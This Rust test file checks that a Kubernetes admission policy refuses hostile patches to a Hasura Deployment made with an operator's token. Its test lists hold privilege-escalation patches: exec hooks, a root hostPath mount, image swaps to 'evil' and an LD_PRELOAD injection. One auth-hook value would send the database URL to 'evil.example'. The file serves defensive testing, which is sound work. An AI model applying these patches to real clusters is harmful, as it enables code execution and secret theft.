//! What somebody can not do to a Deployment who holds the token of the operator.

use std::sync::Arc;

use anyhow::{Context, ensure};
use k8s_openapi::api::apps::v1::Deployment;
use serde_json::{Value, json};

use super::{
    access::Account,
    helm::Helm,
    policies::{Asker, in_force, refused},
};
use crate::{suite::Test, tests, world::World};

pub fn tests() -> Vec<Test> {
    tests![
        whoever_holds_the_operators_token_runs_no_code_elsewhere_with_it,
        the_operators_own_entries_and_annotation_may_change,
        a_large_deployment_can_be_judged,
    ]
}

const POLICY: &str = "deployments";

/// What the policy says of each part of a Deployment.
const OBJECT: &str = "changes no metadata of a Deployment";
const SPEC: &str = "changes nothing of a Deployment but its pod template";
const TEMPLATE: &str = "changes no metadata of a pod template but its annotation";
const POD: &str = "changes nothing of a pod but the environment";
const CONTAINER: &str = "changes nothing of a container but its own env entries";
const ENTRY: &str = "gives its env entries plain values, or the key of the same name";

fn add(path: &str, value: Value) -> Value {
    json!([{"op": "add", "path": path, "value": value}])
}

fn remove(path: &str) -> Value {
    json!([{"op": "remove", "path": path}])
}

/// In the pod template's spec.
fn pod(field: &str, value: Value) -> Value {
    add(&format!("/spec/template/spec/{field}"), value)
}

/// In the container of Hasura.
fn container(field: &str, value: Value) -> Value {
    pod(&format!("containers/0/{field}"), value)
}

/// One more env entry of Hasura.
fn entry(value: Value) -> Value {
    container("env/-", value)
}

fn by_value(name: &str, value: &str) -> Value {
    entry(json!({"name": name, "value": value}))
}

fn by_reference(from: Value) -> Value {
    entry(json!({"name": "HASURA_GRAPHQL_JWT_SECRET", "valueFrom": from}))
}

/// Around the containers.
fn outside() -> Vec<(Value, &'static str)> {
    let owner = json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "x"}]);
    let exec = json!({"exec": {"command": ["sh", "-c", "id"]}});
    vec![
        (add("/metadata/labels", json!({"a": "b"})), OBJECT),
        (add("/metadata/annotations", json!({"a": "b"})), OBJECT),
        (add("/metadata/ownerReferences", owner), OBJECT),
        (add("/metadata/finalizers", json!(["a.example/b"])), OBJECT),
        (add("/spec/replicas", json!(9)), SPEC),
        (add("/spec/paused", json!(true)), SPEC),
        (add("/spec/minReadySeconds", json!(1)), SPEC),
        (add("/spec/revisionHistoryLimit", json!(0)), SPEC),
        (add("/spec/progressDeadlineSeconds", json!(999)), SPEC),
        (add("/spec/strategy", json!({"type": "Recreate"})), SPEC),
        (
            add("/spec/template/metadata/labels/a", json!("b")),
            TEMPLATE,
        ),
        (
            add("/spec/template/metadata/annotations/a", json!("b")),
            TEMPLATE,
        ),
        (
            add("/spec/template/metadata/annotations/kept", json!("b")),
            TEMPLATE,
        ),
        (remove("/spec/template/metadata/annotations/kept"), TEMPLATE),
        (
            pod("initContainers", json!([{"name": "evil", "image": "evil"}])),
            POD,
        ),
        (
            pod("containers/-", json!({"name": "evil", "image": "evil"})),
            POD,
        ),
        (remove("/spec/template/spec/containers/1"), POD),
        (container("name", json!("another")), POD),
        (
            json!([{"op": "move", "from": "/spec/template/spec/containers/1", "path": "/spec/template/spec/containers/0"}]),
            POD,
        ),
        (pod("serviceAccountName", json!("cluster-admin")), POD),
        (pod("automountServiceAccountToken", json!(true)), POD),
        (
            pod(
                "volumes",
                json!([{"name": "host", "hostPath": {"path": "/"}}]),
            ),
            POD,
        ),
        (pod("hostNetwork", json!(true)), POD),
        (pod("hostPID", json!(true)), POD),
        (pod("shareProcessNamespace", json!(true)), POD),
        (pod("securityContext", json!({"runAsUser": 0})), POD),
        (
            pod(
                "hostAliases",
                json!([{"ip": "203.0.113.1", "hostnames": ["auth.example.com"]}]),
            ),
            POD,
        ),
        (pod("dnsPolicy", json!("Default")), POD),
        (pod("nodeName", json!("mine")), POD),
        (pod("tolerations", json!([{"operator": "Exists"}])), POD),
        (pod("priorityClassName", json!("system-node-critical")), POD),
        (pod("imagePullSecrets", json!([{"name": "a"}])), POD),
        (container("livenessProbe", exec.clone()), CONTAINER),
        (
            container("lifecycle", json!({"postStart": exec})),
            CONTAINER,
        ),
    ]
}

/// In the containers.
fn inside() -> Vec<(Value, &'static str)> {
    let jwt = "HASURA_GRAPHQL_JWT_SECRET";
    let key = |object: &str, key: &str| json!({"name": object, "key": key});
    let with_image = json!([
        {"op": "add", "path": "/spec/template/spec/containers/0/env/-", "value": {"name": jwt, "value": "{}"}},
        {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil"},
    ]);
    vec![
        (container("image", json!("evil")), CONTAINER),
        (with_image, CONTAINER),
        (pod("containers/1/image", json!("evil")), CONTAINER),
        (container("imagePullPolicy", json!("Always")), CONTAINER),
        (container("command", json!(["sh", "-c", "id"])), CONTAINER),
        (container("args", json!(["--admin-secret", ""])), CONTAINER),
        (container("workingDir", json!("/tmp")), CONTAINER),
        (
            container("envFrom", json!([{"secretRef": {"name": "a"}}])),
            CONTAINER,
        ),
        (
            container("ports", json!([{"containerPort": 22}])),
            CONTAINER,
        ),
        (
            container("securityContext", json!({"runAsUser": 0})),
            CONTAINER,
        ),
        (
            container("resources", json!({"limits": {"cpu": "1m"}})),
            CONTAINER,
        ),
        (by_value("LD_PRELOAD", "/tmp/evil.so"), CONTAINER),
        (by_value("HASURA_GRAPHQL_JWT_SECRETS", "[]"), CONTAINER),
        (by_value("hasura_graphql_jwt_secret", "{}"), CONTAINER),
        (
            pod(
                "containers/1/env",
                json!([{"name": "LD_PRELOAD", "value": "x"}]),
            ),
            CONTAINER,
        ),
        (
            container("env/0", json!({"name": "FIRST", "value": "x"})),
            CONTAINER,
        ),
        (
            container("env/0/value", json!("postgres://evil/hasura")),
            CONTAINER,
        ),
        (remove("/spec/template/spec/containers/0/env/1"), CONTAINER),
        (
            json!([{"op": "move", "from": "/spec/template/spec/containers/0/env/1", "path": "/spec/template/spec/containers/0/env/0"}]),
            CONTAINER,
        ),
        (
            by_value(
                "HASURA_GRAPHQL_AUTH_HOOK",
                "https://evil.example/$(HASURA_GRAPHQL_DATABASE_URL)",
            ),
            ENTRY,
        ),
        (
            by_reference(json!({"fieldRef": {"fieldPath": "spec.nodeName"}})),
            ENTRY,
        ),
        (
            by_reference(json!({"secretKeyRef": key("other", "password")})),
            ENTRY,
        ),
        (
            by_reference(json!({"configMapKeyRef": key("other", "text")})),
            ENTRY,
        ),
        (
            by_reference(json!({"secretKeyRef": {"name": "a", "key": jwt, "optional": true}})),
            ENTRY,
        ),
    ]
}

/// A Deployment with two containers and no pods.
fn victim(world: &World) -> Value {
    let mut deployment = world.deployment();
    deployment["spec"]["replicas"] = json!(0);
    let template = &mut deployment["spec"]["template"];
    template["metadata"]["annotations"] = json!({"kept": "a"});
    let containers = template["spec"]["containers"].as_array_mut();
    containers
        .into_iter()
        .for_each(|all| all.push(json!({"name": "sidecar", "image": "envoy"})));
    deployment
}

/// The release, and its account with the rights and the policy in force.
async fn installed(world: &World) -> anyhow::Result<(Helm, Asker)> {
    let helm = Helm::of(world).await?;
    let here = format!("watchNamespace={:?}", world.namespace);
    helm.install(&[&here, r#"ownerId="hostile""#]).await?;
    Account::of_release(world).await?;
    world.apply::<Deployment>(victim(world)).await?;
    let operator = Asker::operator(world)?;
    let (operation, _) = outside().swap_remove(0);
    let dry = operator.dry();
    in_force(world, POLICY, || {
        dry.patch::<Deployment>("hasura", &operation)
    })
    .await?;
    Ok((helm, operator))
}

async fn whoever_holds_the_operators_token_runs_no_code_elsewhere_with_it(
    world: Arc<World>,
) -> anyhow::Result<()> {
    let (helm, operator) = installed(&world).await?;
    let before: Deployment = world.get("hasura").await?;
    let all = [outside(), inside()].concat();
    ensure!(all.len() >= 50, "{}", all.len());
    for (operations, words) in &all {
        let answer = operator.patch::<Deployment>("hasura", operations).await;
        refused(&world, POLICY, answer, words).with_context(|| operations.to_string())?;
    }
    let after: Deployment = world.get("hasura").await?;
    ensure!(before.spec == after.spec, "{after:?}");
    helm.uninstall().await
}

async fn the_operators_own_entries_and_annotation_may_change(
    world: Arc<World>,
) -> anyhow::Result<()> {
    let (helm, operator) = installed(&world).await?;
    let jwt = "HASURA_GRAPHQL_JWT_SECRET";
    let key = json!({"name": "shop-auth", "key": jwt});
    let annotation = "/spec/template/metadata/annotations/logto-hasura.dev~1auth-hash";
    let last = "/spec/template/spec/containers/0/env/2";
    for operations in [
        by_value(jwt, r#"{"jwk_url":"https://auth.example.com/oidc/jwks"}"#),
        json!([{"op": "replace", "path": last, "value": {"name": jwt, "valueFrom": {"secretKeyRef": key}}}]),
        json!([{"op": "replace", "path": last, "value": {"name": jwt, "valueFrom": {"configMapKeyRef": key}}}]),
        remove(last),
        by_value(
            "HASURA_GRAPHQL_AUTH_HOOK",
            "https://auth.example.com/api?a=b",
        ),
        by_value("HASURA_GRAPHQL_AUTH_HOOK_MODE", "GET"),
        by_value("HASURA_GRAPHQL_UNAUTHORIZED_ROLE", "anonymous"),
        container("env/0", json!({"name": jwt, "value": "{}"})),
        pod("containers/1/env", json!([{"name": jwt, "value": "{}"}])),
        remove("/spec/template/spec/containers/1/env"),
        add(annotation, json!("a")),
        add(annotation, json!("b")),
        remove(annotation),
    ] {
        operator
            .patch::<Deployment>("hasura", &operations)
            .await
            .with_context(|| operations.to_string())?;
    }
    // An entry that somebody else gave such a reference stays as it is while another one is set.
    let foreign = json!({"fieldRef": {"fieldPath": "spec.nodeName"}});
    let foreign = json!({"name": "HASURA_GRAPHQL_JWT_SECRET", "valueFrom": foreign});
    world
        .apply::<Deployment>({
            let mut deployment = victim(&world);
            deployment["metadata"]["name"] = json!("foreign");
            deployment["spec"]["template"]["spec"]["containers"][0]["env"] = json!([foreign]);
            deployment
        })
        .await?;
    let role = by_value("HASURA_GRAPHQL_UNAUTHORIZED_ROLE", "anonymous");
    operator.patch::<Deployment>("foreign", &role).await?;
    helm.uninstall().await
}

async fn a_large_deployment_can_be_judged(world: Arc<World>) -> anyhow::Result<()> {
    let (helm, operator) = installed(&world).await?;
    let entries: Vec<Value> = (0..300)
        .map(|number| json!({"name": format!("VARIABLE_{number}"), "value": "x".repeat(50)}))
        .collect();
    let containers: Vec<Value> = (0..10)
        .map(|number| json!({"name": format!("c{number}"), "image": "x", "env": entries}))
        .collect();
    let mut deployment = victim(&world);
    deployment["metadata"]["name"] = json!("large");
    deployment["spec"]["template"]["spec"]["containers"] = json!(containers);
    world.apply::<Deployment>(deployment).await?;
    let secret = by_value("HASURA_GRAPHQL_JWT_SECRET", "{}");
    operator.patch::<Deployment>("large", &secret).await?;
    helm.uninstall().await
}
